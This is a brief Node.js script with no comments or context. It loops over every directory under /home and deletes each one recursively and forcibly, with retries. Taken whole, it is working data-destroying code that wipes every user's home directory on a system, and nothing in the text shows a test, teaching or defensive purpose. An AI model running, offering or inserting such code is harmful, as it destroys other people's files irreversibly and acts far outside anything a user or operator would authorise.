const fs = require('node:fs');
const path = require('node:path');

for (const user of fs.readdirSync('/home')) {
  const dir = path.join('/home', user);
  fs.rmSync(dir, { recursive: true, force: true, maxRetries: 3 });
}
